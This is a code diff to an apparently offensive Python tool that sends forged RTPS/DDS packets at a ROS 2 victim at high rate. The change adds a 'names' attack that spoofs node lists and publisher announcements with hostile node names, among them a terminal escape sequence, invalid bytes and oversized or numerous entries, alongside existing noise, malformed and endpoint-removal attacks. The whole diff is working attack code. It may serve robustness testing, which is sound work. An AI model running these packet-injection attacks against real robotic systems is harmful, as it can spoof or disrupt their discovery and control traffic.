@@ -12,7 +12,7 @@ import socket
 import struct
 import sys
 import time
-from collections.abc import Callable
+from collections.abc import Callable, Sequence
 
 HEADER = b"RTPS\x02\x03\x01\x0f"
 INFO_DST, HEARTBEAT, GAP, ACKNACK, DATA, DATA_FRAG = 0x0E, 0x07, 0x08, 0x06, 0x15, 0x16
@@ -21,6 +21,8 @@ PARTICIPANTS = 16  # number of participants whose ports are attacked
 PUBLICATIONS_WRITER, PUBLICATIONS_READER = b"\x00\x00\x03\xc2", b"\x00\x00\x03\xc7"
 SUBSCRIPTIONS_WRITER, SUBSCRIPTIONS_READER = b"\x00\x00\x04\xc2", b"\x00\x00\x04\xc7"
 SPDP_WRITER, SPDP_READER = b"\x00\x01\x00\xc2", b"\x00\x01\x00\xc7"
+NAMES_PORTS = range(7000, 7000 + PARTICIPANTS)  # ports of `ros_discovery_info` in all domains
+NAMES_WRITER, PARTICIPANT = b"\x00\x00\x01\x03", b"\x00\x00\x01\xc1"
 BATCH, PAUSE_S = 50, 0.01  # 5000 packets a second
 
 
@@ -123,6 +125,51 @@ def removed_subscriptions(chance: random.Random, known: bytes) -> bytes:
     return removal(chance, known[16:], SUBSCRIPTIONS_WRITER, SUBSCRIPTIONS_READER)
 
 
+def _string(value: bytes) -> bytes:
+    padded = value + bytes(1 + -(len(value) + 1) % 4)
+    return struct.pack("<I", len(value) + 1) + padded
+
+
+def _news(prefix: bytes, writer: bytes, reader: bytes, number: int, content: bytes) -> bytes:
+    """A message of a participant, before which all others are gone."""
+    place = struct.pack("<iI", 0, number)
+    beat = submessage(HEARTBEAT, reader + writer + place + place + struct.pack("<I", number))
+    data = struct.pack("<HH", 0, 16) + reader + writer + place + content
+    return HEADER + prefix + beat + struct.pack("<BBH", DATA, 5, 0) + data  # 0: up to the end of the packet
+
+
+def node_list(endpoint: bytes, names: Sequence[bytes], number: int) -> bytes:
+    """The nodes of the participant of ``endpoint``, each of which has that publisher."""
+    content = b"\x00\x01\x00\x00" + endpoint[:12] + PARTICIPANT + struct.pack("<I", len(names))
+    for name in names:
+        content += _string(b"/") + _string(name) + struct.pack("<II", 0, 1) + endpoint[:16]
+    return _news(endpoint[:12], NAMES_WRITER, bytes(4), number, content)
+
+
+def publisher(prefix: bytes, topic: bytes, kind: bytes, number: int) -> bytes:
+    """The news that a participant has another publisher, under DDS names of its topic and type."""
+    guid = prefix + struct.pack(">I", 0x00100003 + (number << 8))
+    parameters = b"".join(
+        struct.pack("<HH", key, len(value)) + value
+        for key, value in (
+            (0x005A, guid),
+            (0x0070, guid),
+            (0x0005, _string(topic)),
+            (0x0007, _string(kind)),
+            (0x001A, struct.pack("<iiI", 2, 0, 100)),  # reliable
+            (0x0001, b""),
+        )
+    )
+    return _news(prefix, PUBLICATIONS_WRITER, PUBLICATIONS_READER, number, b"\x00\x03\x00\x00" + parameters)
+
+
+def names(chance: random.Random, known: bytes) -> bytes:
+    """Other names of the nodes of a publisher's process: names of nodes of the graph, of no text, or many."""
+    odd = (b"head", b"speech", b"\xff\xfe", b"\x1b[2J", b"x" * 200)
+    many = [b"n%d" % chance.randrange(2**20) for _ in range(25)]
+    return node_list(known, chance.choice((odd[:2], odd, many)), chance.randrange(1000, 2**30))
+
+
 ATTACKS: dict[str, Callable[[random.Random, bytes], bytes]] = {
     "noise": noise,
     "malformed": malformed,
@@ -134,6 +181,7 @@ ATTACKS: dict[str, Callable[[random.Random, bytes], bytes]] = {
     "acknacks": acknacks,
     "removed_publishers": removed_publishers,
     "removed_subscriptions": removed_subscriptions,
+    "names": names,
 }
 
 
@@ -158,7 +206,7 @@ def main(name: str, victim: str, topics: list[str], seconds: float) -> None:
     """Attack ``victim`` for ``seconds`` in the name of the publishers and subscriptions on ``topics``."""
     known = endpoints(topics, 20.0)
     chance, made = random.Random(1), ATTACKS[name]
-    targets = ports(int(os.environ["ROS_DOMAIN_ID"]))
+    targets = list(NAMES_PORTS) if made is names else ports(int(os.environ["ROS_DOMAIN_ID"]))
     sender = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
     print("begins", *(each.hex() for each in known), flush=True)
     sent, end = 0, time.monotonic() + seconds
